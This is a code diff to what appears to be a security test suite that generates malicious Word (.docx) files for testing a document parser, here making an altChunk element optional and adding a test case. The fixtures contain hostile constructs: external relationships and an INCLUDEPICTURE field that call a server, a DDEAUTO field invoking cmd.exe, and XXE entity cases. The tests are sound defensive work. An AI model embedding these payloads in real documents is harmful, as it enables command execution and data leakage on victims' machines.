@@ -59,15 +59,15 @@ def _outside(where: Where) -> str:
     )
 
 
-def _calls_home(where: Where) -> bytes:
-    """Return a good letter with a template, a picture, a chunk and a field that lie on a server."""
+def _calls_home(where: Where, chunk: str = "") -> bytes:
+    """Return a good letter with a template, a picture and a field that lie on a server, and a chunk perhaps."""
     kinds = ("attachedTemplate", "image", "aFChunk", "hyperlink", "oleObject", "frame", "subDocument", "header")
     related = "".join(
         f'<Relationship Id="r{kind}" Type="{_RELATED}/{kind}" Target="{where.url}/{kind}" TargetMode="External"/>'
         for kind in kinds
     )
     r = f'xmlns:r="{_RELATED}"'
-    inner = body(61) + f'<w:altChunk {r} r:id="raFChunk"/><w:subDoc {r} r:id="rsubDocument"/>'
+    inner = body(61) + chunk.format(r) + f'<w:subDoc {r} r:id="rsubDocument"/>'
     inner += f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {where.url}/p.png \\d"/></w:p>'
     inner += '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe /c"/></w:p>'
     inner += f'<w:sectPr><w:headerReference {r} w:type="default" r:id="rheader"/></w:sectPr>'
@@ -204,6 +204,7 @@ BAD = [
     Bad("word-thuc-the-ngoai.docx", "told", lambda where: _with_main(document(body(68) + p("<w:r><w:t>&xxe;</w:t></w:r>"), _outside(where)))),
     Bad("word-thuc-the-ngoai-utf16.docx", "told", lambda where: _with_main(document(body(68) + p("<w:r><w:t>&xxe;</w:t></w:r>"), _outside(where), "utf-16"))),
     Bad("word-goi-ra-ngoai.docx", "read", _calls_home),
+    Bad("word-phan-o-ngoai.docx", "asked", lambda where: _calls_home(where, '<w:altChunk {} r:id="raFChunk"/>')),
     Bad("word-leo-ra.docx", "either", _climbs),
     Bad("word-bang-long-nhau.docx", "told", _nested_tables),
     Bad("word-long-150000-tang.docx", "told", _deep),
